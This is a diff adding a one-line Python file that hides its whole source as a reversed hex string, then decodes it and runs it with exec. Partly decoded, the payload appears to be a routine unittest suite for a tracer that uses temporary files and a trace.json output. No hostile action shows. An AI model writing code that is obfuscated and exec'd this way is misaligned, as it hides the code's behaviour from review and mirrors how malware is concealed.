@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092928246165627e26602c27222d6165627473707572202a322e6160737227282e694472756373716e266c65637020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c256c69666f55636162747e266c6563782e65607f602864796770202020202020202a09253e21302c22286471607f29607162202c222d61656274737075722824627f6365627e25636e6164737e6942756361627450202020202020202a0a39266c65637825637f6c636f55627f6665626f5e6564747962777f5562716f537e6160737f5473756470266564602020202a0a0929282972716d6d65737e25636e6164737e69427563616274502c22286471607f29607162282e694472756373716e266c656370202020202020202a09203e2031302c2d503b53756c607d6163782c616571754472756373716e266c656370202020202020202a0923554c405d41435f58514d4f5543414254502c2923756c607d6163782e656c682c616571754472756373716e266c656370202020202020202a0d59222d6165627473707572202c22286471607f29607162282b537e6f6964716275746e25636e6164737e69427563616274502d3023756c607d616370202020202020202a0929296824716f6c66602c22286471607f29607162202c222d61656274737075722824627f6365627e25636e6164737e694275636162745020202020202020202020202a0a392031302b2023554c405d41435f58514d4f55434142545825676e6162702e69602960227f6660202020202020202a0a39266c6563782465646e657f626f5562716f5e6160737f5275607f53756c607d61637f5473756470266564602020202a0a092824756375627e25636e6164737e6942756361627450202020202020202a092825637f6c636e25636e6164737e6942756361627450202020202020202a0a39266c6563782e677f644271656470266564602020202a0a092824756375627e25636e6164737e6942756361627450202020202020202a0925637c61664d347968756f54716f5972716d6d6573702c256c69666f55636162747e266c656378256c62616e656e25636e6164737e6942756361627450202020202020202a09222c6e6f637a6e256361627472202c29222d247375647d276e6963616274722d38796665627078207d6564746b6d6e256c6966607d6564782e696f6a6e286471607e237f602d30256c69666f55636162747e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e657824737564527563616274502373716c636a0a0a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f62766a03554c405d41435f58514d4f55434142545024727f607d69602769666e6f636e207071602d6f62766a0a0473756474796e657024727f607d696a056c6966607d65647024727f607d696a037f6024727f607d696" ));